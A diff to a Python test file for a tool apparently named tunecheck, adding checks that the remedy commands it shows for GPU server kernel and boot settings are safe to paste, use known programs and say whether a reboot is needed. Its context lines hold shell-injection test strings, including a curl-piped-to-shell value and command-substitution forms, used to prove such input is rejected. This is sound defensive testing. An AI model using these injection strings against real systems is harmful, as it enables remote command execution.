@@ -9,6 +9,7 @@ import json
 import random
 import re
 import shlex
+import subprocess
 from collections.abc import Callable, Iterator
 from datetime import UTC, datetime
 from pathlib import Path
@@ -31,7 +32,7 @@ from tunecheck.report.outputs import Run
 from tunecheck.report.terminal import Style, render
 from tunecheck.rules import CHECKS, Case, Finding
 from tunecheck.rules.command import Command, host, limited, pieces, run
-from tunecheck.rules.finding import Remedy
+from tunecheck.rules.finding import Place, Remedy
 from tunecheck.spec.frozen import Frozen
 
 #: Made by the control node from what the host said, never by the host.
@@ -41,6 +42,8 @@ EVIL = (";curl EVIL|sh", "$(EVIL)", "`EVIL`", "' EVIL '", '" EVIL "', " EVIL", "
         "*EVIL", "!EVIL", "\\EVIL", "\u202eEVIL", "run: EVIL;", "{EVIL,x}", "#EVIL")
 #: What only the words of a command may hold: everything that a shell takes as it is, and the one script of ours.
 PLAIN = re.compile(r"[A-Za-z0-9@%+=:,./_-]+")
+#: Words for the kernel command line, in grubby's options.
+BOOT_WORDS = re.compile(rf"--(?:remove-)?args={PLAIN.pattern}(?: {PLAIN.pattern})*")
 SCRIPT = re.compile(r"(?:echo [a-z0-9:.-]+ > /sys/[a-z0-9/:._]+(?: && |$))+"
                     r"|echo [a-z0-9_]+ \| tee(?: /sys/[a-z0-9/:._*]+)+")
 #: What is looked for in the kernel log: words of ours, quoted.
@@ -85,7 +88,7 @@ def _check(command: Command) -> None:
     assert "EVIL" not in command.shown
     for word in command.argv:
         sought = "-g" in command.argv and SOUGHT.fullmatch(word)
-        assert PLAIN.fullmatch(word) or SCRIPT.fullmatch(word) or sought, command
+        assert PLAIN.fullmatch(word) or SCRIPT.fullmatch(word) or BOOT_WORDS.fullmatch(word) or sought, command
 
 
 def _lied_to(path: Path, tries: int) -> Iterator[Finding]:
@@ -158,7 +161,7 @@ def test_the_page_of_a_fleet_copies_the_command_of_a_cause_and_of_a_box() -> Non
     assert re.findall(r'data-copy="([^"]*)"', text) == ["ansible-playbook site.yml --tags kernel_cmdline -l gpu001"]
     given = json.loads(re.search(r'<script type="application/json"[^>]*>(.*?)</script>', text, re.DOTALL)[1])
     fixes = [[(given["texts"][said], place) for said, place in each[4]] for each in given["problems"]]
-    assert fixes == [[("run: ", ""), ("ansible-playbook site.yml --tags acs -l gpu001", "control")],
+    assert fixes == [[("run: ", ""), ("ansible-playbook site.yml --tags acs -l gpu001", "on the control node")],
                      [("run: curl EVIL", "")]]
 
 
@@ -200,11 +203,23 @@ def test_what_is_typed_is_written_in_the_rule() -> None:
     assert len(calls) > 30 and not put_in
 
 
+#: What the commands of remedies begin with, "sudo" left aside. A new one is written here, and so looked for in prose.
+PROGRAMS = {
+    "ansible-playbook", "apt-mark", "cat", "chcpu", "cpupower", "dkms", "dnf", "dracut", "find", "grep", "grubby",
+    "journalctl", "lsmod", "lspci", "modinfo", "modprobe", "mokutil", "nvidia-ctk", "nvidia-modprobe", "nvidia-smi",
+    "setpci", "sh", "sysctl", "systemctl", "tunecheck", "update-grub", "update-initramfs"}
 #: A program with an argument, as it stands in a sentence.
-COMMAND = re.compile(r"(?<![\w/.-])(?:sudo )?(?:nvidia-smi|dmesg|journalctl|lspci|setpci|update-grub|update-initramfs|"
-                     r"apt|dnf|systemctl|modprobe|sysctl|tunecheck|nvidia-ctk|chcpu|cpupower|grep|cat|dkms|mokutil|"
-                     r"ansible-playbook)"
+COMMAND = re.compile(rf"(?<![\w/.-])(?:sudo )?(?:{'|'.join(sorted(PROGRAMS | {'dmesg', 'apt', 'apt-get'}))})"
                      r"(?: -{1,2}[\w-]+| (?:status|show|topo|explain|p2p|preflight|record|generate)\b)")
+#: Programs whose names are no words of a sentence: named there, they are a command without its arguments.
+BARE = re.compile(r"(?<![\w/.-])(?:sudo \w+|grubby|update-grub|update-initramfs|dracut|lsinitramfs|lsinitrd|chcpu|"
+                  r"setpci|journalctl)(?![\w.-])")
+#: What a person has to fill in is written in capitals; these are capitals of the programs.
+KEPT_CAPITALS = ("NVRM", "ALL")
+CAPITALS = re.compile(r"(?:^|[/=,-])([A-Z]{3,})(?=$|[/=,])")
+#: Words that say that the box has to boot again, or has to be switched off.
+BOOTS = re.compile(r"\breboots?\b|\bboot with|\bboot without|boot configuration|\bthe BIOS\b|power-cycle|"
+                   r"switch(?:ed)? the machine off|load(?:ed)? .*(?:again|anew)")
 
 
 @pytest.mark.parametrize("chosen", [CASES[start::8] for start in range(8)], ids=range(8))
@@ -218,11 +233,54 @@ def test_every_command_of_a_remedy_is_a_field(chosen: list[Path]) -> None:
             if fix is None:
                 continue
             prose = "".join(part for part in fix.parts if isinstance(part, str))
-            assert not COMMAND.search(prose) and "`" not in fix.text, (path.stem, fix.text)
+            assert not COMMAND.search(prose) and not BARE.search(prose) and "`" not in fix.text, (path.stem, fix.text)
             assert [part.shown for part in fix.parts if isinstance(part, Command)] == [
                 each.shown for each in fix.commands], fix.text
             assert fix.text.endswith(fix.play_text) and fix.text.startswith(fix.by_hand)
             assert not fix.play_text or (fix.play is not None and fix.play.where == "control")
+
+
+def _remedies() -> Iterator[tuple[str, Remedy]]:
+    """Every remedy that the cases reach, once."""
+    seen = set()
+    for path in CASES:
+        snapshot, frozen, case = _cases(path)
+        check = next(check for check in CHECKS if check.id == check_of(path))
+        for finding in check.judge(case(snapshot, frozen)):
+            assert finding.outcome != "pass" or finding.remedy is None, (path.stem, "a pass has nothing to mend")
+            if finding.remedy and (check.id, finding.remedy) not in seen:
+                seen.add((check.id, finding.remedy))
+                yield path.stem, finding.remedy
+
+
+def test_every_command_can_be_pasted() -> None:
+    """A shell takes it, it begins with a program that we know, and what has to be filled in first is told as such."""
+    commands = {command: name for name, fix in _remedies() for command in fix.commands}
+    for command, name in commands.items():
+        words = command.argv[1:] if command.argv[0] == "sudo" else command.argv
+        assert words[0] in PROGRAMS and not {">", "<", "|", "&&", ";"} & set(words), (name, command.shown)
+        left = {found for word in words for found in CAPITALS.findall(word)} - set(KEPT_CAPITALS)
+        assert left == set(command.fill_in), (name, command.shown)
+        assert command.where == ("control" if words[0] == "ansible-playbook" else "box"), (name, command.shown)
+    lines = "\n".join(command.shown for command in commands)
+    done = subprocess.run(["bash", "-n"], input=lines, capture_output=True, text=True, timeout=60, check=False)
+    assert len(commands) > 80 and (done.returncode, done.stderr) == (0, "")
+
+
+def test_a_remedy_says_where_it_is_done_and_whether_the_box_boots_again() -> None:
+    """The first of several ways decides: what stands behind "or" or ";" may be something else."""
+    for name, fix in _remedies():
+        first = re.split(r"; |,? or (?!bifurc)", fix.text)[0]
+        if BOOTS.search(first):
+            assert fix.needs_reboot or fix.place is Place.MACHINE, (name, fix.text)
+        if fix.needs_reboot and not fix.play:      # a play boots the box itself
+            assert BOOTS.search(fix.text), (name, fix.text)
+        if fix.place is Place.FIRMWARE and "BMC" not in first:
+            assert fix.needs_reboot, (name, fix.text)
+        if "BIOS" in first:
+            assert fix.physical, (name, fix.text)
+        if re.search(r"\b(?:reseat|airflow|seating|power-cycle the host|replace the board|boards below one)\b", first):
+            assert fix.place is not Place.BOX, (name, fix.text)
 
 
 def test_the_first_words_of_a_command_are_written_in_the_rule() -> None:
